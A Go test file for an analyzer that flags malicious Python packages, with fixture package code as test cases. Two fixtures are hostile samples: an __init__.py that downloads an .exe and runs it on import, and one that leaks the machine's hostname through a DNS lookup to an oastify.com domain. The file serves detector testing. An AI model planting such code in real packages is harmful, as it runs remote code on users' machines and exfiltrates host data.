package analyze

import "testing"

// Values followed through parameters: a program named by the caller and
// run by a nested helper (utilitytool 0.0.2); a resolver's wrapper given
// the local host's name (dnspython's getfqdn) is no beacon, a name built
// around it still is.
func TestValuesThroughParameters(t *testing.T) {
	runVerdictCases(t, []verdictCase{
		{"download and run through nested helpers", map[string]string{"p/__init__.py": `import requests, subprocess
def download_and_run_exe(url, exe_path):
    def download_file(url, exe_path):
        r = requests.get(url)
        with open(exe_path, 'wb') as f:
            f.write(r.content)
        return True
    def run_exe(exe_path):
        subprocess.Popen(exe_path)
        return True
    if download_file(url, exe_path):
        run_exe(exe_path)
def main():
    url = "https://raw.githubusercontent.com/x/y/main/pics.exe"
    exe_path = "pics.exe"
    download_and_run_exe(url, exe_path)
main()
`}, "download-execute", Malicious},
		{"resolver wrapper given the host name", map[string]string{"p/resolver.py": `import socket
_original_getaddrinfo = socket.getaddrinfo
def _getaddrinfo(host=None, service=None, flags=0):
    if flags:
        return _original_getaddrinfo(host, service, 0, 0, 0, flags)
def _getfqdn(name=None):
    if name is None:
        name = socket.gethostname()
    return _gethostbyaddr(name)
def _gethostbyaddr(ip):
    return _getaddrinfo(ip, 0)
def override_system_resolver():
    socket.getaddrinfo = _getaddrinfo
    socket.getfqdn = _getfqdn
`}, "", Clean},
		{"wrapper given a name built around the host's", map[string]string{"p/__init__.py": `import socket
def lookup(name):
    return socket.gethostbyname(name)
lookup(socket.gethostname() + ".x.oastify.com")
`}, "exfiltrates-host-info", Malicious},
	}, nil)
}
